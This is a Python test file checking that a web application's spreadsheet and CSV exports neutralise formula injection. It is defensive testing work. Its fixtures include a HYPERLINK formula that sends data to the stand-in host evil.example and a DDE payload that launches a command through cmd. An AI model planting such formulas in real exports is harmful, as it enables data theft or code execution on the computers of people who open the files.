"""Finding 3: text that a spreadsheet would run as a formula is written as text, in every
export (ledger XLSX and CSV, review ranking and score sheets XLSX, bids CSV)."""

import io
from decimal import Decimal

import pytest
from openpyxl import Workbook, load_workbook

from tests.payments.test_exports import paid_contract
from tests.review import helpers
from venture.auth.enums import Role
from venture.core.spreadsheet import CsvWriter, append_row, csv_bytes, neutralise
from venture.review import exports
from venture.review.enums import Aggregation

LINK = '=HYPERLINK("http://evil.example/?leak","click")'


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("阳光=中心", "阳光=中心"),
        ("", ""),
        (Decimal("-5.00"), Decimal("-5.00")),
        (-3, -3),
        (None, None),
    ],
)
def test_neutralise_prefixes_formula_text_only(value, written):
    assert neutralise(value) == written


def test_csv_writer_writes_formula_text_as_text_and_numbers_as_numbers():
    data = csv_bytes([["名称", "金额"], [LINK, Decimal("-5.00")]])
    assert data.decode("utf-8-sig").splitlines() == [
        "名称,金额",
        '"\'=HYPERLINK(""http://evil.example/?leak"",""click"")",-5.00',
    ]


def test_csv_writer_leaves_the_stream_open():
    out = io.BytesIO()
    writer = CsvWriter(out)
    writer.writerow(["@a"])
    writer.close()
    assert out.getvalue() == "\ufeff'@a\r\n".encode()


def test_xlsx_rows_hold_formula_text_as_string_cells():
    book = Workbook()
    append_row(book.active, [LINK, -1, "ok"])
    sheet = load_workbook(_saved(book)).active
    assert [(c.value, c.data_type) for c in sheet[1]] == [
        ("'" + LINK, "s"),
        (-1, "n"),
        ("ok", "s"),
    ]


def _saved(book):
    out = io.BytesIO()
    book.save(out)
    out.seek(0)
    return out


def test_ledger_xlsx_and_csv_write_a_formula_name_as_text(client, login, make):
    staff, finance = make.user(Role.STAFF), make.user(Role.FINANCE)
    paid_contract(make, "1000.00", staff, finance, organization=make.org(name=LINK))
    login(finance)
    sheet = load_workbook(io.BytesIO(client.get("/finance/ledger.xlsx").data)).active
    assert [(c.value, c.data_type) for c in sheet[2][1:2]] == [("'" + LINK, "s")]
    lines = client.get("/finance/ledger.csv").data.decode("utf-8-sig").splitlines()
    assert lines[1].split(",")[1] == '"\'=HYPERLINK(""http://evil.example/?leak""'


def test_review_ranking_and_sheets_write_formula_names_and_comments_as_text(make):
    staff = make.user(Role.STAFF)
    call = helpers.call(staff=staff)
    criteria = helpers.rubric(call, (40, 30, 30), staff=staff)
    helpers.application(call, organization=make.org(name=LINK), title="@SUM(1)")
    experts = [helpers.expert() for _ in range(3)]
    made, _ = helpers.assign(helpers.panel(call, experts, staff=staff), staff)
    for assignment in made:
        helpers.submit(assignment, [30, 20, 20], criteria, comment="+cmd|' /C calc'!A0")
    panel = made[0].panel
    ranking = load_workbook(io.BytesIO(exports.ranking_xlsx(panel, Aggregation.MEAN))).active
    assert [(c.value, c.data_type) for c in ranking[2][2:4]] == [
        ("'" + LINK, "s"),
        ("'@SUM(1)", "s"),
    ]
    sheets = load_workbook(io.BytesIO(exports.sheets_xlsx(panel))).active
    row = [c.value for c in sheets[2]]
    assert (row[1], row[2], row[-1]) == ("'" + LINK, "'@SUM(1)", "'+cmd|' /C calc'!A0")
